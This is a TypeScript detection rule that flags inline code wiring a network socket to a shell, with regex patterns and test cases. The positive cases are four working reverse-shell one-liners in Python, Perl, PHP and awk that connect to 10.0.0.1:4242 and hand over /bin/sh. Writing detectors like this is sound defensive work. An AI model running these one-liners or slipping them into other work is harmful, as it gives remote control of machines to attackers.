import { defineRule, type Hit } from './rule.js';

const SOCKET = /socket\.socket|create_connection|socket\(|use socket|io::socket|tcpsocket|fsockopen|stream_socket_client|net\.socket|require\(['"]net['"]\)|net\.connect|createconnection|socket\.tcp|require\(['"]socket['"]\)|\/inet\/tcp\/|new socket|tcpclient|java\.net\.socket/i;
const SHELL = /subprocess|pty\.spawn|os\.dup2|dup2\(|\/bin\/(ba|z|da)?sh|cmd\.exe|exec\s*\(|execute|system\s*\(|popen|proc_open|shell_exec|child_process|spawn\(|\|&|io\.popen|os\.execute|while\s*\(\s*\(\s*cmd|system\s*\$|\bexec\s+["'a-z]|fdopen/i;

export const rule = defineRule({
  id: 'socket_shell_snippet',
  category: 'reverse_shell',
  severity: 'critical',
  technique: 'T1059',
  title: 'Inline Python/Perl/Ruby/PHP/Node/Lua/awk code that wires a socket to a shell',
  check(ctx) {
    const hits: Hit[] = [];
    for (const s of ctx.snippets) if (SOCKET.test(s.text) && SHELL.test(s.text)) hits.push({ span: s.span, explanation: `${s.lang} code opens a network connection and runs a shell over it (a reverse shell)` });
    return hits;
  },
  cases: {
    positive: [
      ['bash', `python3 -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("10.0.0.1",4242));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);import pty; pty.spawn("/bin/sh")'`],
      ['bash', `perl -e 'use Socket;$i="10.0.0.1";$p=4242;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");exec("/bin/sh -i");};'`],
      ['bash', `php -r '$sock=fsockopen("10.0.0.1",4242);exec("/bin/sh -i <&3 >&3 2>&3");'`],
      ['bash', `awk 'BEGIN {s = "/inet/tcp/0/10.0.0.1/4242"; while(42) { do{ printf "shell>" |& s; s |& getline c; if(c){ while ((c |& getline) > 0) print $0 |& s; close(c); } } while(c != "exit") close(s); }}' /dev/null`],
    ],
    negative: [['bash', `python3 -c 'import socket; print(socket.gethostname())'`], ['bash', `node -e 'console.log(require("os").cpus().length)'`]],
  },
});
